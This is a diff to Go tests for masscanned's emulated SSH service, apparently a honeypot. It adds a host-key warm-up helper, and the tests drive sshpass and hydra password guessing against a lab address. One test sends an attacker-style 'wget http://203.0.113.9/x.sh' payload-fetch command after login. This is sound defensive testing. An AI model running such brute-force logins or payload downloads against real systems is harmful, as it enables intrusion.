@@ -179,12 +179,23 @@ func TestAppsSSH(t *testing.T) {
 	}
 }
 
+// warmSSH makes masscanned generate the address's SSH host keys (the
+// first connection to a host does, RSA 3072 taking up to seconds on a
+// loaded machine) before a client with a short timeout connects.
+func warmSSH(t *testing.T, l *Lab) {
+	t.Helper()
+	if out, err := l.InClient(60*time.Second, "ssh-keyscan", "-T", "50", RespIP4); err != nil || !strings.Contains(out, "ssh-") {
+		t.Fatalf("ssh-keyscan: %v\n%s", err, out)
+	}
+}
+
 // TestAppsSSHLogin: the key exchange completes and every password a
 // client tries is recorded, with the user, and refused.
 func TestAppsSSHLogin(t *testing.T) {
 	Require(t, "ssh", "sshpass")
 	l := NewLab(t, LabOptions{NoClientIPv6: true})
 	l.Start()
+	warmSSH(t, l)
 	passwords := []string{"123456", "admin", "P@ssw0rd!"}
 	for _, pw := range passwords {
 		out, err := l.InClient(20*time.Second, "sshpass", "-p", pw, "ssh", "-o", "StrictHostKeyChecking=no",
@@ -628,6 +639,7 @@ func TestAppsSSHHydra(t *testing.T) {
 	Require(t, "hydra")
 	l := NewLab(t, LabOptions{NoClientIPv6: true})
 	l.Start()
+	warmSSH(t, l)
 	var pws []string
 	for i := range 50 {
 		pws = append(pws, fmt.Sprintf("pw%02d-%s", i, rnd()))
@@ -756,6 +768,7 @@ func TestAppsSSHAccept(t *testing.T) {
 	Require(t, "ssh", "sshpass")
 	l := NewLab(t, LabOptions{NoClientIPv6: true})
 	l.Start("--ssh-accept-after", "1")
+	warmSSH(t, l)
 	out, err := l.InClient(20*time.Second, "sshpass", "-p", "toor", "ssh", "-o", "StrictHostKeyChecking=no",
 		"-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
 		"-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=5", "root@"+RespIP4, "uname -a; wget http://203.0.113.9/x.sh")
